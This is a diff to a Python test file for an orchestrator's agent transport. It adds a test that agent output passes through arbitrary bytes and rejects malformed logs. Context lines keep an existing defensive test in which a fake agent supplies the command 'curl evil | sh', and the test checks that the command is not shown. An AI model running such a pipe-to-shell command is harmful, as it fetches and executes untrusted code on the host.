@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 
 from orchestrator.transport.job_replies import JobEnd
 from orchestrator.transport.refusals import AgentFailed
-from orchestrator.transport.shapes import MOST_FIGURES, MOST_VALUES, json_in
+from orchestrator.transport.shapes import LONGEST_LOG, MOST_FIGURES, MOST_VALUES, json_in
 from tests.transport.agent_operations import HONEST, OPERATIONS, agent_that_says
 
 ODD: tuple[Any, ...] = (
@@ -125,6 +125,27 @@ def test_the_machine_names_no_command():
     agent = agent_that_says(json.dumps({"ok": True, "attach": "curl evil | sh"}).encode())
     assert "evil" not in agent.view()
     assert "tmux" in agent.view()
+
+
+@pytest.mark.parametrize("op", ["follow", "stdout"])
+def test_output_is_any_bytes_and_nothing_else(op: str):
+    """A byte that is no UTF-8 comes as half a surrogate pair; any other half of one is what no program can print."""
+    said: list[str] = []
+    agent = agent_that_says(*(json.dumps(line).encode() for line in _printing(op, "a\udc80\udcff\xfc")))
+    if op == "follow":
+        agent.follow("j", 0, lambda text, _offset: said.append(text))
+    else:
+        agent.stdout("j", said.append, timeout_s=1)
+    assert said[0].encode("utf-8", "surrogateescape") == b"a\x80\xff\xc3\xbc"
+    for half in ("\ud800", "\udbff", "\udc00", "\udc7f", "\udd00", "\udfff", "x" * (LONGEST_LOG + 1), None, 1, ["a"]):
+        assert isinstance(ask(op, _printing(op, half)), AgentFailed), repr(half)[:20]
+
+
+def _printing(op: str, log: Any) -> list[dict[str, Any]]:
+    """What an honest agent says, with that for its first output."""
+    lines = honest(op)
+    next(line for line in lines if "log" in line)["log"] = log
+    return lines
 
 
 def test_figures_that_are_none_are_left_out():
